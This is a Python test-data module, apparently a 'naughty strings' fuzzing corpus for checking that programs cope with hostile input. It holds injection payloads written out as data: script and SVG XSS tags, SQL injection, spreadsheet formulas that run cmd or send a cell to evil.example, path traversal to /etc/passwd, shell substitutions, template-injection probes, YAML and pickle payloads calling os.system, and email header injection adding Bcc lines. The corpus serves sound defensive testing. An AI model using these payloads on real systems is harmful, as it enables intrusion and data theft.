"""Strings that harm careless programs, all of our own making, by what they are meant to upset."""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator
from itertools import product

_TARGET = "evil.example"
_FORMULA_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫")
_FORMULAS = (
    "1+1",
    f'HYPERLINK("http://{_TARGET}","Ann")',
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    f'IMPORTDATA("http://{_TARGET}/?"&A1)',
)
_BEFORE_FORMULAS = ("", " ", "\t", "\n", "'", "''", "\u00a0", '"')
_TAGS = (
    "<b>Ann</b>",
    "<i>",
    "</p>",
    "<br/>",
    "<!-- Ann -->",
    "<![CDATA[Ann]]>",
    "<?xml version='1.0'?>",
    '<!DOCTYPE a [<!ENTITY x "y">]>&x;',
    "<script>alert(1)</script>",
    f'<img src="http://{_TARGET}/a.png">',
    '<img src="file:///etc/passwd">',
    f'<a href="http://{_TARGET}">Ann</a>',
    '<svg onload="alert(1)"/>',
    '<font color="red" size="99">Ann</font>',
    '<para alignment="right">Ann</para>',
    "<super>Ann</super>",
    "<seq id='a'/>",
    "<style>* { display: none }</style>",
    "<table><tr><td>Ann",
    f"<iframe src=//{_TARGET}>",
    f"<link rel=stylesheet href=//{_TARGET}>",
    '<text x="0">Ann</text>',
    f'<use href="http://{_TARGET}#a"/>',
    "<qt>Ann</qt>",
    "<html><body>Ann</body></html>",
    "Ann < Bo > Cy",
    "a<b",
    "1 > 0 & 2 < 3",
)
_ENTITIES = ("&amp;", "&lt;b&gt;", "&#65;", "&#x41;", "&nbsp;", "&Ann", "A&nn", "A && B", "&", "&&")
_CONTROLS = tuple(map(chr, [*range(32), *range(0x7F, 0xA0)]))
_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_UNSEEN = "\u00ad\u034f\u115f\u17b4\u180e\u200b\u200c\u200d\u2060\u2061\u2064\u3164\ufeff\uffa0"
_SPACES = "\u00a0\u1680\u2000\u2003\u2007\u2009\u200a\u2028\u2029\u202f\u205f\u3000\x85\x0b\x0c"
_WHERE = ("{0}Ann", "Ann{0}", "An{0}n")
_ODD_NAMES = r"""
CON con PRN AUX NUL COM1 COM² LPT9 con.txt nul.tar.gz . .. ... ~ ~root ~/.ssh -rf --help
../../etc/passwd ..\..\boot.ini /etc/passwd \\server\share C:\Ann C: a/b a\b a:b
file:///etc/passwd name. name... .hidden desktop.ini Thumbs.db $(id) `id` $HOME ${HOME}
%PATH% %2e%2e%2f ..%2f ;id |id &id >out <in *.* ? [a-z] {a,b} ! # Ann.pdf.exe Ann::$DATA
"""
_FORMATS = """
%s %n %d %x %% %(name)s %99999999d {} {0} {0.__class__} {full_name} {{full_name}} {{ }}
{full_name!r:>99999999} {self} ${name} $name #{name} <%=1%> {%x%} {{7*7}} ${7*7} @{name}
{0.__class__.__mro__[1].__subclasses__()} {first_name.__init__.__globals__} { } {
"""
_DATABASES = (
    "'; DROP TABLE person; --",
    "' OR '1'='1",
    '" OR ""="',
    "Ann'--",
    "Ann\\'; --",
    "/* Ann */",
    "1; ATTACH DATABASE 'x' AS y",
    "') UNION SELECT * FROM sender --",
    "%",
    "_",
    "100%",
    "a_b",
    "\\%",
    "NULL",
    "null",
    "true",
    "NaN",
    "-0",
    "1e309",
    "0x1F",
    "99999999999999999999",
    "Infinity",
    "undefined",
    'Ann AND "Bo"',
    "NEAR(Ann Bo)",
    "Ann*",
    "^Ann",
    'name:"Ann"',
    '"',
    "Ann NOT Bo",
    "(Ann OR",
    "-Ann",
    "{name} : Ann",
)
_HEADER_LINES = (
    "Bcc: a@evil.example",
    "Subject: other",
    "X-Unsent: 0",
    "\r\nother body",
    "Content-Type: text/html",
)
_LINE_ENDS = ("\r\n", "\n", "\r", "\r\n ", "\n\t", "\x0b", "\x0c", "\x1c", "\x85", "\u2028")
_ENCODED_WORDS = (
    "=?utf-8?q?Ann=0D=0ABcc:_a@evil.example?=",
    "=?utf-8?b?QW5uDQpCY2M6IGFAZXZpbC5leGFtcGxl?=",
    "=?us-ascii?q?Ann=0ABcc:_x@evil.example?=",
    "=?",
    "=?utf-8?q?Ann",
    "=?bogus?x?Ann?=",
)
_ADDRESSES = (
    "a@evil.example?bcc=b@evil.example",
    "a@evil.example&cc=b@evil.example",
    "a@evil.example,b@evil.example",
    "a@evil.example%0D%0ABcc:b@evil.example",
    "a@evil.example#b",
    "mailto:a@evil.example?body=x",
    "Ann <a@evil.example>, Bo <b@evil.example>",
    '"Ann" <a@evil.example>',
    "a@[127.0.0.1]",
    "@",
    "a@",
    "javascript:alert(1)",
    "data:text/html,Ann",
    f"http://ann@{_TARGET}/?a=b&c=d#e",
)
_FILES = (
    "END:VCARD",
    "BEGIN:VCARD",
    "Ann\nEND:VCARD\nBEGIN:VCARD\nFN:Bo",
    "Ann\nEND:VEVENT\nBEGIN:VALARM",
    "Ann\\nBo",
    "Ann\\,Bo\\;Cy\\\\",
    "a,b;c:d",
    "TEL;TYPE=home:1",
    "^n^^^'",
    "a=3D=",
    "Ann=",
    '"""Ann"""',
    "'''Ann'''",
    '"Ann","Bo"',
    "Ann ::: Bo",
    "[table]",
    "key = 1",
    "# Ann",
    "\\u0041",
    "\\x41",
    "\\",
    "\\\\",
    "\\0",
    '{"a": [1, 2',
    '"}]',
    "sep=;",
    "---\n- !!python/object/apply:os.system [id]",
    "cos\nsystem\n(S'id'\ntR.",
    "From Ann Mon Jan  1 00:00:00 2024",
    ">From Ann",
    "--boundary--",
    "-- ",
    ".",
    "\n.\n",
    "%PDF-1.7",
    "(Ann) Tj",
    "endstream endobj",
    "\\) Tj (",
    "PK\x03\x04",
    "BT /F1 12 Tf ET",
)
_SCRIPTS = (
    "אָנָּה לֵוִי",
    "عبد الرحمن",
    "فاطمة Ann عبد",
    "ᠮᠣᠩᠭᠣᠯ",
    "ක්‍ෂ ශ්‍රී",
    "क्षत्रिय",
    "ภาษาไทย น้ำ",
    "မြန်မာ",
    "안녕하세요",
    "각",
    "葛󠄀城",
    "神神",
    "ﬀﬁﬃ",
    "İstanbul ı",
    "ß ẞ ſ",
    "Ǆ ǅ ǆ",
    "Ω Ω",
    "Å Å",
    "😀",
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇸🇪🇸",
    "👍🏿",
    "1️⃣",
    "𝔄𝔫𝔫",
    "𐍈",
    "\U0010fffd",
    "\ue000",
    "\uf8ff",
    "\ufffe",
    "\uffff",
    "\ufffd",
    "\ufdd0",
    "\U000e0041\U000e007f",
)
_FLOODS = (
    "n" + "\u0301" * 200,
    "Z" + "\u0300\u0323\u034f\u0489" * 60,
    "\u0301Ann",
    "\u0e49" * 90,
    "A" * 1500,
    "Ann " * 350,
    "W" * 400,
    "é" * 700,
    "😀" * 300,
    "\u202e" * 200,
    "(" * 900,
    "<" * 900,
    "{" * 400,
    "\u200b" * 900,
    "\n" * 300,
    " " * 900,
    "&" * 700,
    ".-" * 400,
    "ﷺ" * 60,
)
_HALVES = ("\ud800", "\udc00", "Ann\udfff", "\ud83dAnn", "\ude00\ud83d", "An\ud800n")
_TWINS = ("Zoë", "Åkerström", "Ångström", "Nguyễn Phương", "가나다", "ａｎｎ", "①②", "ǵ", "ṩ", "ﬃ")


def _pairs() -> Iterator[str]:
    for text in _TWINS:
        yield unicodedata.normalize("NFC", text)
        yield unicodedata.normalize("NFD", text)
        yield unicodedata.normalize("NFKC", text)
        yield unicodedata.normalize("NFKD", text)


def _formulas() -> Iterator[str]:
    for sign, formula in product(_FORMULA_SIGNS, _FORMULAS):
        yield f"{sign}{formula}"
    for before, sign in product(_BEFORE_FORMULAS, _FORMULA_SIGNS[:5]):
        yield f"{before}{sign}1+1"


def _in_places(chars: str | tuple[str, ...]) -> tuple[str, ...]:
    return tuple(place.format(char) for char, place in product(chars, _WHERE))


NAUGHTY: dict[str, tuple[str, ...]] = {
    "markup": (*_TAGS, *_ENTITIES),
    "formulas": tuple(dict.fromkeys(_formulas())),
    "controls": _in_places(_CONTROLS),
    "directions": _in_places(tuple(_BIDI)),
    "unseen": _in_places(tuple(_UNSEEN)),
    "spaces": _in_places(tuple(_SPACES)),
    "paths": tuple(_ODD_NAMES.split()),
    "formats": tuple(dict.fromkeys(_FORMATS.split())),
    "databases": _DATABASES,
    "headers": tuple(f"Ann{end}{line}" for end, line in product(_LINE_ENDS, _HEADER_LINES)),
    "encoded words": _ENCODED_WORDS,
    "addresses": _ADDRESSES,
    "file formats": _FILES,
    "scripts": _SCRIPTS,
    "floods": _FLOODS,
    "twins": tuple(dict.fromkeys(_pairs())),
    "halves": _HALVES,
}
"""By what they are meant to upset; a text is in one of them only."""

ALL = tuple(dict.fromkeys(text for texts in NAUGHTY.values() for text in texts))
WHOLE = tuple(text for text in ALL if text not in NAUGHTY["halves"])
"""Those that are text: halves of surrogate pairs cannot be written as UTF-8 by anybody."""
